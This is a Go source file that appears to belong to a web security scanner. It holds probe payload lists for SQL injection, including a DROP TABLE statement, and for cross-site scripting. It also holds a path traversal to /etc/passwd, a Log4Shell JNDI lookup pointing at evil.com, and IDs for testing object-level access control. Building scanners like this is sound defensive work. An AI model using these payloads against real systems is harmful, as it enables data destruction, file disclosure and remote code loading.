package dynamic

// Probe payload sets. Kept small on purpose: the point is detecting a class
// of weakness, not exhaustively exploiting it.

var sqlInjectionPayloads = []string{
	"' OR '1'='1",
	"'; DROP TABLE users; --",
	"1' UNION SELECT NULL--",
	"' OR 1=1--",
	"admin'--",
	"' OR 'a'='a",
	"\" OR \"1\"=\"1",
	"1' OR '1'='1'--",
	"1' OR '1'='1'/*",
	"') OR ('1'='1--",
}

var xssPayloads = []string{
	"<script>alert('XSS')</script>",
	"<img src=x onerror=alert('XSS')>",
	"javascript:alert('XSS')",
	"<svg onload=alert('XSS')>",
	"<body onload=alert('XSS')>",
	"<iframe src=javascript:alert('XSS')>",
	"<input onfocus=alert('XSS') autofocus>",
	"<select onfocus=alert('XSS') autofocus>",
	"<textarea onfocus=alert('XSS') autofocus>",
	"<keygen onfocus=alert('XSS') autofocus>",
}

// thirdPartyPayloads simulate hostile data arriving from an upstream
// integration partner.
var thirdPartyPayloads = []string{
	"<script>alert('XSS')</script>",
	"'; DROP TABLE users; --",
	"../../../etc/passwd",
	"${jndi:ldap://evil.com/a}",
}

// bolaTestIDs are object identifiers tried against path parameters to check
// for horizontal access control gaps.
var bolaTestIDs = []string{"1", "2", "999", "0", "-1", "admin", "test"}
